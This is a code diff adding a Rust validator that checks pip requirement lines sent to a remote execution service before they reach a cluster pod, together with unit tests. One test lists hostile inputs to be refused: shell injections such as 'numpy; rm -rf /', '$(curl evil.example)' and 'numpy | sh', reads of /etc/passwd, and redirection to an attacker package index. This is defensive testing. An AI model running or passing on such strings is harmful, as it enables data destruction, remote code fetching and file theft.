@@ -1,0 +1,316 @@
+//! The pip requirements a caller sends, checked before anything reaches the cluster.
+//!
+//! Each line is a PEP 508 requirement, parsed by a real parser. Exactly one line is
+//! `python==X.Y`, naming an interpreter from `REXEC_PYTHON_VERSIONS`. Refused: pip options
+//! (`-r`, `--index-url`, ...), direct URLs, VCS and local paths (unless
+//! `REXEC_ALLOW_DIRECT_URLS=true` allows URLs), control characters, a package named twice, more
+//! than `REXEC_MAX_REQUIREMENTS` lines or a line longer than `REXEC_MAX_REQUIREMENT_LENGTH`.
+//!
+//! Accepted lines reach the pod verbatim as a file read by `pip install -r`: never a command
+//! line. Their identity is a digest of the normalised lines, in any order, with the interpreter.
+
+use std::collections::HashMap;
+use std::str::FromStr;
+
+use pep508_rs::pep440_rs::Operator;
+use pep508_rs::{Requirement, VerbatimUrl, VersionOrUrl};
+use sha2::{Digest, Sha256};
+
+use crate::config::{ConfigError, Vars};
+use crate::error::ApiError;
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct RequirementsPolicy {
+    /// Interpreters a caller may choose, as `X.Y`.
+    pub python_versions: Vec<String>,
+    pub max_count: usize,
+    pub max_line_length: usize,
+    pub allow_direct_urls: bool,
+}
+
+impl RequirementsPolicy {
+    pub fn from_vars(vars: &Vars) -> Result<Self, ConfigError> {
+        let mut python_versions = vars.list("REXEC_PYTHON_VERSIONS");
+        if python_versions.is_empty() {
+            python_versions = ["3.10", "3.11", "3.12", "3.13"].map(String::from).to_vec();
+        }
+        if let Some(bad) = python_versions.iter().find(|v| !is_minor_version(v)) {
+            return Err(ConfigError::new("REXEC_PYTHON_VERSIONS", format!("{bad:?} is not a version like 3.11")));
+        }
+        Ok(Self {
+            python_versions,
+            max_count: vars.parse_or("REXEC_MAX_REQUIREMENTS", 200)?,
+            max_line_length: vars.parse_or("REXEC_MAX_REQUIREMENT_LENGTH", 500)?,
+            allow_direct_urls: vars.bool_or("REXEC_ALLOW_DIRECT_URLS", false)?,
+        })
+    }
+
+    /// Checks the caller's lines, in the order sent.
+    pub fn check<S: AsRef<str>>(&self, lines: &[S]) -> Result<Requirements, ApiError> {
+        let mut python = None;
+        let mut packages: Vec<String> = Vec::new();
+        let mut normalised: Vec<String> = Vec::new();
+        let mut seen: HashMap<String, usize> = HashMap::new();
+        let mut count = 0;
+        for (index, raw) in lines.iter().enumerate() {
+            let number = index + 1;
+            let raw = raw.as_ref();
+            let line = raw.trim();
+            if line.is_empty() || line.starts_with('#') {
+                continue;
+            }
+            count += 1;
+            if count > self.max_count {
+                return Err(ApiError::payload_too_large(format!(
+                    "Too many requirements: at most {} lines are accepted.",
+                    self.max_count
+                )));
+            }
+            let refuse = |reason: &str| {
+                ApiError::bad_request(
+                    "invalid_requirement",
+                    format!("Requirement line {number} ({}): {reason}", shown(line)),
+                )
+            };
+            if line.chars().count() > self.max_line_length {
+                return Err(refuse(&format!("longer than {} characters", self.max_line_length)));
+            }
+            if raw.chars().any(char::is_control) {
+                return Err(refuse("contains a control character"));
+            }
+            if line.starts_with('-') {
+                return Err(refuse("pip options such as -r or --index-url are not accepted"));
+            }
+            let requirement = Requirement::<VerbatimUrl>::from_str(line)
+                .map_err(|e| refuse(&format!("not a valid PEP 508 requirement: {}", first_line(&e.to_string()))))?;
+            let name = requirement.name.to_string();
+            if name == "python" {
+                if python.is_some() {
+                    return Err(refuse("a second python== line; name the interpreter once"));
+                }
+                python = Some(self.python_pin(&requirement).map_err(|reason| refuse(&reason))?);
+                continue;
+            }
+            if let Some(VersionOrUrl::Url(_)) = requirement.version_or_url {
+                if !self.allow_direct_urls {
+                    return Err(refuse("direct URLs are not accepted; name a package from the index"));
+                }
+            }
+            if let Some(first) = seen.insert(name.clone(), number) {
+                return Err(refuse(&format!("{name} is already required on line {first}")));
+            }
+            normalised.push(requirement.to_string());
+            packages.push(line.to_owned());
+        }
+        let python = python.ok_or_else(|| {
+            ApiError::bad_request(
+                "missing_python_version",
+                format!("Name the interpreter with one line python==X.Y, one of {}.", self.python_versions.join(", ")),
+            )
+        })?;
+        normalised.sort();
+        let mut hasher = Sha256::new();
+        hasher.update(format!("python=={python}\n"));
+        for line in &normalised {
+            hasher.update(line.as_bytes());
+            hasher.update(b"\n");
+        }
+        let digest = hasher.finalize().iter().map(|b| format!("{b:02x}")).collect();
+        Ok(Requirements { python, packages, digest })
+    }
+
+    fn python_pin(&self, requirement: &Requirement<VerbatimUrl>) -> Result<String, String> {
+        let wanted = || format!("write python==X.Y with X.Y one of {}", self.python_versions.join(", "));
+        let specifiers = match &requirement.version_or_url {
+            Some(VersionOrUrl::VersionSpecifier(specifiers)) => specifiers,
+            _ => return Err(wanted()),
+        };
+        let [pin] = specifiers.iter().collect::<Vec<_>>()[..] else { return Err(wanted()) };
+        let version = pin.version().to_string();
+        if *pin.operator() != Operator::Equal || !requirement.extras.is_empty() || !requirement.marker.is_true() {
+            return Err(wanted());
+        }
+        if !self.python_versions.contains(&version) {
+            return Err(format!("python {version} is not offered; {}", wanted()));
+        }
+        Ok(version)
+    }
+}
+
+/// Requirements that passed the policy.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Requirements {
+    /// The interpreter, `X.Y`.
+    pub python: String,
+    /// The package lines as the caller sent them (trimmed), in order: the pod's requirements file.
+    pub packages: Vec<String>,
+    /// SHA-256 (hex) of the interpreter and the normalised lines, order-independent.
+    pub digest: String,
+}
+
+impl Requirements {
+    /// The requirements file read by `pip install -r`.
+    pub fn file(&self) -> String {
+        self.packages.iter().map(|line| format!("{line}\n")).collect()
+    }
+
+    /// Every line as the client sends them, the interpreter first.
+    pub fn lines(&self) -> Vec<String> {
+        std::iter::once(format!("python=={}", self.python)).chain(self.packages.iter().cloned()).collect()
+    }
+}
+
+fn is_minor_version(v: &str) -> bool {
+    let mut parts = v.split('.');
+    let numeric = |p: Option<&str>| p.is_some_and(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()));
+    numeric(parts.next()) && numeric(parts.next()) && parts.next().is_none()
+}
+
+/// A line as quoted in an error: at most 80 characters, control characters escaped.
+fn shown(line: &str) -> String {
+    let escaped: String = line.chars().flat_map(char::escape_debug).collect();
+    match escaped.char_indices().nth(80) {
+        Some((cut, _)) => format!("`{}…`", &escaped[..cut]),
+        None => format!("`{escaped}`"),
+    }
+}
+
+fn first_line(message: &str) -> &str {
+    message.lines().next().unwrap_or(message)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn policy() -> RequirementsPolicy {
+        RequirementsPolicy::from_vars(&Vars::default()).unwrap()
+    }
+
+    #[test]
+    fn the_contract_example() {
+        let reqs = policy().check(&["python==3.11", "numpy>=1.26"]).unwrap();
+        assert_eq!(reqs.python, "3.11");
+        assert_eq!(reqs.packages, vec!["numpy>=1.26"]);
+        assert_eq!(reqs.file(), "numpy>=1.26\n");
+        assert_eq!(reqs.lines(), vec!["python==3.11", "numpy>=1.26"]);
+        assert_eq!(reqs.digest.len(), 64);
+    }
+
+    #[test]
+    fn the_digest_ignores_order_spelling_and_blank_lines() {
+        let a = policy().check(&["python==3.11", "NumPy >= 1.26", "pandas[excel]"]).unwrap();
+        let b = policy().check(&["pandas[EXCEL]", "", "# comment", "numpy>=1.26", "python==3.11"]).unwrap();
+        assert_eq!(a.digest, b.digest);
+        let c = policy().check(&["python==3.12", "numpy>=1.26", "pandas[excel]"]).unwrap();
+        assert_ne!(a.digest, c.digest, "the interpreter is part of the identity");
+        let d = policy().check(&["python==3.11", "numpy>=1.27", "pandas[excel]"]).unwrap();
+        assert_ne!(a.digest, d.digest);
+    }
+
+    #[test]
+    fn the_interpreter_pin_is_required_once_and_offered() {
+        let p = policy();
+        for lines in [
+            vec!["numpy"],
+            vec!["python==3.11", "python==3.11"],
+            vec!["python>=3.11"],
+            vec!["python==3.9"],
+            vec!["python"],
+            vec!["python==3.11,==3.11"],
+            vec!["python==3.11; sys_platform == 'linux'"],
+            vec![],
+        ] {
+            let err = p.check(&lines).unwrap_err();
+            assert_eq!(err.status, 400, "{lines:?}");
+        }
+    }
+
+    #[test]
+    fn errors_name_the_line() {
+        let err = policy().check(&["python==3.11", "numpy", "numpy>=2"]).unwrap_err();
+        assert!(err.detail.contains("line 3") && err.detail.contains("line 2"), "{}", err.detail);
+        let err = policy().check(&["python==3.11", "not a requirement!"]).unwrap_err();
+        assert!(err.detail.starts_with("Requirement line 2 (`not a requirement!`)"), "{}", err.detail);
+    }
+
+    #[test]
+    fn limits() {
+        let p = RequirementsPolicy { max_count: 3, max_line_length: 20, ..policy() };
+        assert_eq!(p.check(&["python==3.11", "a", "b", "c"]).unwrap_err().status, 413);
+        assert_eq!(p.check(&["python==3.11", &format!("a{}", "1".repeat(30))]).unwrap_err().status, 400);
+    }
+
+    #[test]
+    fn direct_urls_only_when_allowed() {
+        let line = "pkg @ https://example.org/pkg-1.0.tar.gz";
+        assert_eq!(policy().check(&["python==3.11", line]).unwrap_err().status, 400);
+        let open = RequirementsPolicy { allow_direct_urls: true, ..policy() };
+        assert_eq!(open.check(&["python==3.11", line]).unwrap().packages, vec![line]);
+    }
+
+    #[test]
+    fn hostile_lines_are_refused_or_carried_verbatim() {
+        let long = format!("numpy{}", "1".repeat(600));
+        let cases: Vec<(&str, bool)> = vec![
+            ("numpy; rm -rf /", false),
+            ("numpy ; echo pwned", false),
+            ("$(curl evil.example)", false),
+            ("numpy$(id)", false),
+            ("`id`", false),
+            ("numpy`id`", false),
+            ("numpy > /etc/passwd", false),
+            ("numpy < /etc/passwd", false),
+            ("numpy && curl evil.example", false),
+            ("numpy || true", false),
+            ("numpy | sh", false),
+            ("\"numpy\"", false),
+            ("'numpy'", false),
+            ("numpy==1.0'; id; '", false),
+            ("https://evil.example/pkg.tar.gz", false),
+            ("pkg @ https://evil.example/pkg.tar.gz", false),
+            ("pkg @ git+https://evil.example/repo.git", false),
+            ("pkg @ file:///etc/passwd", false),
+            ("./local/path", false),
+            ("/etc/passwd", false),
+            ("--index-url https://evil.example/simple", false),
+            ("--extra-index-url=https://evil.example", false),
+            ("-r /etc/passwd", false),
+            ("-e .", false),
+            ("--trusted-host evil.example", false),
+            (long.as_str(), false),
+            ("numpy\nrm -rf /", false),
+            ("numpy\r\nid", false),
+            ("numpy\u{0}", false),
+            ("numpy\u{1b}[31m", false),
+            ("numpy\ttab", false),
+            ("numpy<2", true),
+            ("numpy>=1.26,<2", true),
+            ("pandas[excel]>1", true),
+            ("scipy; python_version > \"3.8\"", true),
+            ("requests ; sys_platform == 'linux'", true),
+        ];
+        for (line, accepted) in cases {
+            match policy().check(&["python==3.11", line]) {
+                Ok(reqs) => {
+                    assert!(accepted, "accepted {line:?}");
+                    assert_eq!(reqs.file(), format!("{line}\n"), "carried verbatim");
+                }
+                Err(err) => {
+                    assert!(!accepted, "refused {line:?}: {}", err.detail);
+                    assert!(matches!(err.status.as_u16(), 400 | 413), "{line:?}");
+                    assert!(!err.detail.contains('\n') && !err.detail.contains('\u{1b}'), "errors escape control characters");
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn bad_settings_name_the_variable() {
+        let err = RequirementsPolicy::from_vars(&Vars::from_pairs([("REXEC_PYTHON_VERSIONS", "3.11,three")])).unwrap_err();
+        assert_eq!(err.variable, "REXEC_PYTHON_VERSIONS");
+        let p = RequirementsPolicy::from_vars(&Vars::from_pairs([("REXEC_PYTHON_VERSIONS", "3.12")])).unwrap();
+        assert!(p.check(&["python==3.11"]).is_err());
+        assert!(p.check(&["python==3.12"]).is_ok());
+    }
+}
